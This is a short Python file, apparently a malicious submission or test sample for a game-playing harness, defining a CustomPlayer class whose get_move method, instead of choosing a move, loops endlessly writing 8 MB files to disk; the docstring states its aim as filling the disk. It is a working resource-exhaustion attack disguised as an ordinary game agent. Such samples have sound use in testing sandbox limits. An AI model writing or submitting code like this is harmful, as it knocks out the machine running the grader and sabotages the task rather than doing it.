"""Fills the disk."""


class CustomPlayer:
    def get_move(self, game, time_left):
        number = 0
        while True:
            with open(f"file{number}", "wb") as file:
                file.write(bytes(8_000_000))
            number += 1
